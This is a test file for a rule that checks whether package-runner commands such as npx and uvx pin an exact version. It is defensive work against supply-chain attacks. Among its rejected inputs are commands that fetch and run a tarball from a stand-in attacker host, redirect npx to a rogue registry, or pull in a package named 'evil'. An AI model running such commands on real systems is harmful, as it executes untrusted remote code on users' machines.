import { describe, expect, it } from "vitest";
import { runnerProblem } from "../../src/mcp/rules/package-runner.ts";

describe("package runners match with an exact version alone", () => {
  it.each([
    "npx -y docs-mcp@1.2.3",
    "npx @scope/docs-mcp@1.2.3-beta.1 --flag x",
    "npx -p a@1.0.0 --package=b@2.0.0 tool",
    "npm exec -- docs@1.0.0",
    "uvx docs==1.2",
    "uvx --from docs@1.2.3 tool",
    "uv tool run docs==1.0",
    "docs-mcp whatever@latest",
  ])("%s", (line) => {
    const [program = "", ...args] = line.split(" ");
    expect(runnerProblem(`/usr/bin/${program}`, args)).toBeNull();
  });

  it.each([
    ["npx docs-mcp", "has none"],
    ["npx -y docs-mcp@latest", "has none"],
    ["npx docs-mcp@^1.2.3", "has none"],
    ["npx docs@npm:evil@1.2.3", "has none"],
    ["npx https://evil.example/x.tgz", "has none"],
    ["npx --registry=https://evil.example docs@1.2.3", "cannot be judged"],
    ["npx -c evil docs@1.2.3", "cannot be judged"],
    ["npx -p evil tool@1.0.0", "has none"],
    ["npx", "has none"],
    ["npm run docs", "what its directory says"],
    ["uvx docs", "has none"],
    ["uvx --with evil docs==1.0", "has none"],
    ["uvx docs==1.*", "has none"],
    ["pipx run docs", "has none"],
  ])("%s: %s", (line, says) => {
    const [program = "", ...args] = line.split(" ");
    expect(runnerProblem(`/usr/bin/${program}`, args)).toContain(says);
  });
});
